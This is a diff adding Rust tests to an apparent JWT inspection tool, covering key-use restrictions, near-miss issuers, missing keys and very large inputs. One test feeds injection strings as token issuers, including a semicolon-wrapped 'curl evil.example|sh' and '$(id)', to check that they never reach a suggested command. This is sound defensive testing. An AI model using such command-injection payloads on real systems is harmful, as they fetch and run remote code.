@@ -461,6 +461,10 @@ fn names() -> Vec<Row> {
         pair("RS256 with RSA 2048").1,
         "This key can check",
     ));
+    let mut jwk = interop_case("jose", "ES256")["key"]["jwk"].clone();
+    jwk["use"] = "enc".into();
+    let own = token_of("ES256", &pair("ES256").0, b"x");
+    rows.push(("key-forbids", own, jwk.to_string(), "`use`"));
     let (keys, set) = crate::support::set();
     let wrong = mint_with(&keys[1], r#"{"alg":"ES256","kid":"one"}"#, "{}");
     rows.push(("key-other", wrong, set, "number 2, `kid` `two`"));
@@ -579,6 +583,95 @@ fn where_nothing_is_proved_it_is_said_what_was_tried() {
     ] {
         assert!(said.contains(tried), "{said}");
     }
+}
+
+#[test]
+fn nothing_is_called_near_that_is_another_issuer() {
+    let v2 = |tenant: &str| format!("https://login.microsoftonline.com/{tenant}/v2.0");
+    let near = |wanted: &str, found: &str| {
+        let token = mint_with(
+            &secret(SECRET),
+            HEADER,
+            &json!({"iss": found, "exp": NOW + 3600}).to_string(),
+        );
+        let policy = Policy {
+            issuer: wanted.into(),
+            ..Policy::default()
+        };
+        let (_, found) = found_with(&token, &policy);
+        found.iter().any(|(id, _)| *id == "issuer-near")
+    };
+    assert!(near(&v2("a"), "https://sts.windows.net/a/"));
+    for (wanted, found) in [
+        (v2("a"), v2("b")),
+        (v2("a"), "https://sts.windows.net/b/".into()),
+        ("auth-service".to_owned(), "evil".to_owned()),
+        (
+            "https://id.example".to_owned(),
+            "https://evil.example".to_owned(),
+        ),
+    ] {
+        assert!(!near(&wanted, &found), "{wanted} {found}");
+    }
+}
+
+fn found_with(token: &str, policy: &Policy) -> (Search, Vec<(&'static str, String)>) {
+    found(token, SECRET, policy, NOW)
+}
+
+#[test]
+fn without_a_key_nobody_is_told_that_the_key_is_wrong() {
+    let input = Input {
+        text: hmac(SECRET),
+        ..Input::default()
+    };
+    let policy = Policy::default();
+    let inspection = inspect(&input, &policy, at(NOW));
+    let case = Case::new(
+        &input,
+        &inspection.examination,
+        &inspection.judgement,
+        &policy,
+        at(NOW),
+    )
+    .unwrap();
+    assert_eq!(search(&case).in_vain(&case), None);
+    // A key that is in the token proves nothing about another token.
+    let (proof, _) = report("dpop");
+    let paste = format!("{}\n{proof}", hmac(SECRET));
+    assert_eq!(causes(&paste, ""), []);
+}
+
+#[test]
+fn what_a_token_names_is_no_command() {
+    let (keys, set) = crate::support::set();
+    for (issuer, is_safe) in [
+        ("https://id.example", true),
+        ("https://id.example/;curl evil.example|sh;", false),
+        ("https://id.example/$(id)", false),
+        ("https://id.example/ -o x", false),
+    ] {
+        let token = mint_with(
+            &keys[0],
+            r#"{"alg":"ES256","kid":"three"}"#,
+            &json!({ "iss": issuer }).to_string(),
+        );
+        let tampered = format!("{}AA", &token[..token.len() - 2]);
+        let found = causes(&tampered, &set);
+        let said = &found.iter().find(|(id, _)| *id == "kid-unknown").unwrap().1;
+        assert_eq!(said.contains("curl"), is_safe, "{said}");
+    }
+}
+
+#[test]
+fn a_long_nonce_or_key_costs_no_memory() {
+    let header = format!(
+        r#"{{"alg":"HS256","nonce":"A","x":"{}"}}"#,
+        "A".repeat(100_000)
+    );
+    let token = format!("{}.{}.{}", encode(header), encode("{}"), encode([0; 32]));
+    causes(&token, "a secret of some length for it");
+    causes(&hmac(SECRET), &"k".repeat(900_000));
 }
 
 #[test]
